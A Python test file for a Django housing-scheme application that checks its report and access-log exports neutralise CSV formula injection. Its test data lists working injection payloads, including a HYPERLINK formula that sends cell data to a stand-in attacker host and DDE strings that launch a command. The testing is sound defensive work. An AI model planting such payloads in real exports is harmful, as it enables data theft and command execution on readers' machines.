"""No export lets typed text arrive in a spreadsheet as a live formula (OWASP CSV injection): the
officers' report as XLSX and CSV, and a person's access history as CSV."""

import csv
import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from audit.access import access_record
from audit.models import AccessLogEntry
from iom_housing.access import Role
from iom_housing.spreadsheets import FORMULA_STARTS, neutralised, xlsx_append
from placements.models import Property
from referrals.models import Offender
from tests.factories import OffenderFactory
from tests.helpers import user_with_role
from tests.reports import scenario
from tests.reports.test_report_pages import PERIOD

# Each begins with a character a spreadsheet takes as the start of a formula.
ATTACKS = [
    '=HYPERLINK("https://attacker.invalid/?q="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dHYPERLINK(1)",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Annwen Zephaniah-Quill", "<5", "[c]", "–", "O'Neill", "a=b", "-3.5", "-£1,200.00", "+12%", "-7"],
)
def test_other_text_and_numbers_written_as_text_are_unchanged(value):
    assert neutralised(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, 0, None, date(2026, 3, 1)])
def test_values_that_are_not_text_are_unchanged(value):
    assert neutralised(value) == value


def test_an_xlsx_row_keeps_numbers_as_numbers_and_text_as_strings():
    sheet = Workbook().active
    cells = xlsx_append(sheet, ["=1+1", -5, -2.5, "-3", "bell\x07"])
    assert [c.data_type for c in cells] == ["s", "n", "n", "s", "s"]
    assert [c.value for c in cells] == ["'=1+1", -5, -2.5, "-3", "bell\ufffd"]


def _formulas(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
    ]


def _csv_fields(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            field
            for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
            for field in row
        ]


@pytest.fixture
def booby_trapped():
    """The hand-built scheme with a person's name and a property's name that are formulas."""
    data = scenario.build()
    ann = data["people"][0]
    Offender.objects.filter(pk=ann.pk).update(first_name=ATTACKS[0], last_name=ATTACKS[1])
    stay = data["stays"][0]
    Property.objects.filter(pk=stay.bedspace.property_id).update(name=ATTACKS[3])
    return data


@pytest.mark.django_db
def test_the_officers_xlsx_has_no_formula_and_shows_the_text_as_typed(iom_officer_client, booby_trapped):
    response = iom_officer_client.get(
        "/reports/download/", {**PERIOD, "format": "xlsx", "audience": "officer"}
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert not _formulas(book)
    values = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    assert f"'{ATTACKS[0]} {ATTACKS[1]}" in values
    assert any(isinstance(v, str) and v.startswith(f"'{ATTACKS[3]}, ") for v in values)
    # Figures stay numbers.
    assert 47 in values


@pytest.mark.django_db
def test_the_officers_csv_has_no_field_that_starts_a_formula(iom_officer_client, booby_trapped):
    response = iom_officer_client.get(
        "/reports/download/", {**PERIOD, "format": "csv", "audience": "officer"}
    )
    fields = _csv_fields(response.content)
    assert f"'{ATTACKS[0]} {ATTACKS[1]}" in fields
    assert not [f for f in fields if f.lstrip(" ").startswith(FORMULA_STARTS)]
    # Each text field is quoted, so a spreadsheet splitting on ";" cannot make a second cell.
    text = zipfile.ZipFile(io.BytesIO(response.content)).read("00-about.csv").decode("utf-8-sig")
    assert text.splitlines()[0] == '"Report","IOM housing scheme evaluation"'


@pytest.mark.django_db
def test_the_access_history_csv_has_no_field_that_starts_a_formula(scheme_manager_client):
    person = OffenderFactory()
    reader = user_with_role(Role.IOM_OFFICER, username="+reader")
    access_record(
        user=reader,
        action=AccessLogEntry.Action.CONSULT,
        offender_ids=[person.pk],
        model="referrals.Offender",
        object_ref="=HYPERLINK(1)",
        url="@SUM(1)",
        reason="-1+1",
    )
    response = scheme_manager_client.get(reverse("audit:access-log-csv", args=[person.public_id]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][1] == "'+reader" and rows[1][5:] == ["'=HYPERLINK(1)", "'@SUM(1)", "'-1+1"]
    assert not [f for row in rows for f in row if f.startswith(FORMULA_STARTS)]
